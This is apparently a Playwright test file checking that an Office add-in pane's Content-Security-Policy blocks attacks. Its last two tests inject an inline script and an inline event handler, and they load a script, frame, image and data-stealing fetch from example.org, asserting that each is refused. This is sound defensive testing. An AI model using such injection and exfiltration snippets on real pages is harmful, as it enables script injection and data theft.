/**
 * The pane's Content-Security-Policy, as built and as Chromium enforces it: the start-up check runs
 * by its hash (not 'unsafe-inline'), the pane itself runs without a single violation, and what a
 * hostile document could try once inside — an injected inline script, an inline event handler, a
 * request, an image, a frame or a script from another host — is blocked before any request leaves.
 */
import { readFileSync } from "node:fs";
import { join } from "node:path";
import type { Page } from "playwright-core";
import { inlineScripts, sha256 } from "../../scripts/csp";
import { openPane, startPane, WEB, type PanePage } from "./pane-page";

let pane: PanePage;
let page: Page;
const consoleErrors: string[] = [];

function policyOf(html: string): Map<string, string[]> {
  const content = /<meta[^>]+http-equiv=["']?Content-Security-Policy["']?[^>]+content="([^"]+)"/i.exec(html)?.[1];
  if (!content) throw new Error("no Content-Security-Policy");
  return new Map(
    content
      .split(";")
      .map((d) => d.trim().split(/\s+/))
      .filter((d) => d[0])
      .map(([name, ...values]) => [name, values]),
  );
}

const violations = () => page.evaluate(() => (window as unknown as { khctViolations: string[] }).khctViolations.slice());

beforeAll(async () => {
  pane = await openPane();
  page = pane.page;
  page.on("console", (m) => m.type() === "error" && consoleErrors.push(m.text()));
  await page.addInitScript(() => {
    const w = window as unknown as { khctViolations: string[] };
    w.khctViolations = [];
    document.addEventListener("securitypolicyviolation", (e) => w.khctViolations.push(`${e.effectiveDirective} ${e.blockedURI}`));
  });
  await startPane(pane);
});

afterAll(async () => {
  await pane?.close();
});

describe("the pane's Content-Security-Policy", () => {
  it("is in the built page before any script: scripts from the add-in and Office's CDN, the start-up check by its hash, no requests, frames or plugins", () => {
    const html = readFileSync(join(WEB, "taskpane.html"), "utf8");
    expect(html.search(/http-equiv=["']?Content-Security-Policy/i)).toBeLessThan(html.search(/<script\b/i));
    const policy = policyOf(html);
    const [check] = inlineScripts(html);
    expect(check).toMatch(/Trident/);
    expect(policy.get("default-src")).toEqual(["'none'"]);
    expect(policy.get("script-src")).toEqual(["'self'", "https://appsforoffice.microsoft.com", sha256(check)]);
    expect(policy.get("connect-src")).toEqual(["'self'"]);
    for (const d of ["frame-src", "object-src", "worker-src", "base-uri", "form-action"]) expect(policy.get(d)).toEqual(["'none'"]);
    expect(html).not.toMatch(/'unsafe-eval'/);
    // the ribbon's function file has the same policy, with no inline script at all
    const commands = policyOf(readFileSync(join(WEB, "commands.html"), "utf8"));
    expect(commands.get("script-src")).toEqual(["'self'", "https://appsforoffice.microsoft.com"]);
  });

  it("lets the pane start and run with no violation", async () => {
    await page.getByLabel("Loại trường").selectOption("thcs");
    await page.getByRole("button", { name: "Chèn mẫu kế hoạch" }).click();
    await page.locator("#message-create").getByText(/Đã chèn mẫu kế hoạch/).waitFor();
    await page.getByRole("heading", { name: "Kết quả kiểm tra" }).waitFor();
    await page.getByRole("tab", { name: "Tự đánh giá" }).click();
    await page.getByRole("button", { name: "Tính mức đạt của trường" }).click();
    await page.locator("#evaluation-result").getByText(/Không tìm thấy bảng kết quả tự đánh giá/).waitFor();
    await expect(violations()).resolves.toEqual([]);
    expect(consoleErrors).toEqual([]);
  });

  it("blocks an injected inline script and an inline event handler", async () => {
    await page.evaluate(() => {
      const script = document.createElement("script");
      script.textContent = "window.khctInjected = true";
      document.head.append(script);
      const div = document.createElement("div");
      div.innerHTML = '<img src="data:image/gif;base64,R0lGODlhAQABAAAAACw=" onload="window.khctHandler = true" onerror="window.khctHandler = true">';
      document.body.append(div);
    });
    await page.waitForTimeout(200);
    await expect(page.evaluate(() => (window as unknown as { khctInjected?: boolean }).khctInjected)).resolves.toBeUndefined();
    await expect(page.evaluate(() => (window as unknown as { khctHandler?: boolean }).khctHandler)).resolves.toBeUndefined();
    await expect(violations()).resolves.toEqual(expect.arrayContaining(["script-src-elem inline", "script-src-attr inline"]));
  });

  it("lets no request leave for another host: fetch, image, frame, script", async () => {
    const fetched = await page.evaluate(async () => {
      const img = new Image();
      img.src = "https://example.org/pixel.png";
      const frame = document.createElement("iframe");
      frame.src = "https://example.org/frame.html";
      document.body.append(frame);
      const script = document.createElement("script");
      script.src = "https://example.org/evil.js";
      document.head.append(script);
      try {
        await fetch("https://example.org/steal?d=1");
        return "sent";
      } catch {
        return "refused";
      }
    });
    expect(fetched).toBe("refused");
    await page.waitForTimeout(300);
    expect(pane.requested.filter((u) => u.includes("example.org"))).toEqual([]);
    const seen = await violations();
    for (const v of ["connect-src https://example.org/steal?d=1", "img-src https://example.org/pixel.png", "frame-src https://example.org", "script-src-elem https://example.org/evil.js"]) expect(seen).toContain(v);
  });
});
